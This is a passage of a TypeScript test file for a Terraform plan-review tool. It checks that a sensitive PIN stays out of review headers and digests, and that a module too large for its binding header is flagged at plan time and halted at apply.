      expect(all).not.toContain(PIN);
      for (const f of forms) expect([key, all.includes(f)]).toEqual([key, false]);
    }
    // Without a key, another PIN gives the same header byte for byte: nothing to brute-force.
    expect(headerOf(pinPlan('0000'))).toBe(headerOf(p));
    // With the key, the PIN is bound: another one gives another header.
    expect(headerOf(pinPlan('0000'), KEY)).not.toBe(headerOf(p, KEY));
  });

  test('the evidence digest (planDigest without a key) does not depend on the sensitive value either', () => {
    expect(planDigest(pinPlan('0000'))).toBe(planDigest(pinPlan(PIN)));
    expect(planDigest(pinPlan('0000'), { key: KEY })).not.toBe(planDigest(pinPlan(PIN), { key: KEY }));
  });
});

describe('a module whose unknown values the review cannot hold', () => {
  // A synthetic plan of 30,000 resources (Terraform would take minutes): each with two values unknown.
  const hugePlan = (v: string): unknown => ({
    resource_changes: Array.from({ length: 30_000 }, (_, i) => ({
      address: `aws_route53_record.r_${createHash('sha256').update(String(i)).digest('hex').slice(0, 16)}`,
      change: {
        actions: ['create'],
        before: null,
        after: { name: `r${i}`, ttl: 300, v },
        after_unknown: { id: true, fqdn: true },
        after_sensitive: {},
      },
    })),
  });
  const small = (): unknown => ({
    resource_changes: [
      { address: 'a.b', change: { actions: ['create'], after: { x: 1 }, after_unknown: { id: true } } },
    ],
  });

  test('is named at plan time and halted at apply; a module beside it stays bound', () => {
    const review = makeReview({
      site: 'portal',
      env: 'production',
      commit: 'a'.repeat(40),
      created_at: CREATED,
      modules: {
        huge: reviewedModule(hugePlan('x'), { mocked: false }),
        small: reviewedModule(small(), { mocked: false }),
      },
    });
    expect(review.modules.huge?.unknown).toHaveLength(60_000);
    const fitted = fitReview(review, 65_535);
    expect(fitted?.unbound).toEqual([{ module: 'huge', unknown: 60_000 }]);
    const parsed = parseBindingHeader(bindingHeader(fitted?.review as BindingReview));
    // Per-change digests go first (all of them, while the header is too big); its values stay bound.
    const { changes: _c, ...smallBound } = review.modules.small as ReviewedModule;
    expect(parsed?.modules.small).toEqual(smallBound);
    // The same plan at apply: halted all the same, before anything is applied.
    const r = checkModule(reviewedFor(parsed, 'huge'), hugePlan('x'), NOW, CREATED, SEVEN_DAYS, 'huge');
    expect(r).toMatchObject({ ok: false, reason: 'missing' });
    if (!r.ok) expect(r.message).toMatch(/^module huge: its review could not hold its unknown values/);
    expect(checkModule(reviewedFor(parsed, 'small'), small(), NOW, CREATED, SEVEN_DAYS).ok).toBe(true);
  });
});
